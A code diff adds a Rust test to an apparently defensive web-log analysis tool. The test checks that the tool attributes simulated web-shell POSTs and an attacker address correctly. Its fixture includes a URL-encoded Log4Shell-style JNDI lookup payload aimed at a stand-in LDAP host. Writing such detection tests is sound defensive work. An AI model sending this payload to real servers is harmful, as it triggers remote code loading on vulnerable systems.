@@ -159,6 +159,24 @@ fn the_shape_of_traffic_to_a_path() {
 }
 
 #[test]
+fn what_a_script_was_sent_and_who_attacked_is_shown_by_lines() {
+    let shell = (0..5).map(|second| line(second, "203.0.113.9", "POST /up/x.php", 200, 9));
+    let other =
+        [line(9, "192.0.2.1", "POST /form", 200, 9), line(10, "192.0.2.1", "GET /y.php", 200, 9)];
+    let log = access(shell.chain(other));
+    let numbers = |lines: &str| -> Vec<u64> {
+        let lines: Vec<serde_json::Value> = serde_json::from_str(lines).unwrap();
+        lines.iter().map(|line| line["line"].as_u64().unwrap()).collect()
+    };
+    let rows = table("web_paths", &["path", "lines"], &[log]);
+    let told: Vec<_> = rows.iter().map(|row| (row[0].as_str(), numbers(&row[1]))).collect();
+    assert_eq!(told, [("/form", vec![]), ("/up/x.php", vec![1, 2, 4]), ("/y.php", vec![])]);
+    let attack = [line(1, "203.0.113.9", "GET /?x=%24%7Bjndi:ldap://a/b%7D", 404, 9)];
+    let rows = table("web_clients", &["address", "lines"], &[access(attack.into_iter())]);
+    assert_eq!((rows[0][0].as_str(), numbers(&rows[0][1])), ("203.0.113.9", vec![1]));
+}
+
+#[test]
 fn a_flood_of_addresses_and_paths_is_capped_and_said() {
     let mut fold = Web::default();
     let source = Source::new("/a".into(), crate::history::Witness::Text);
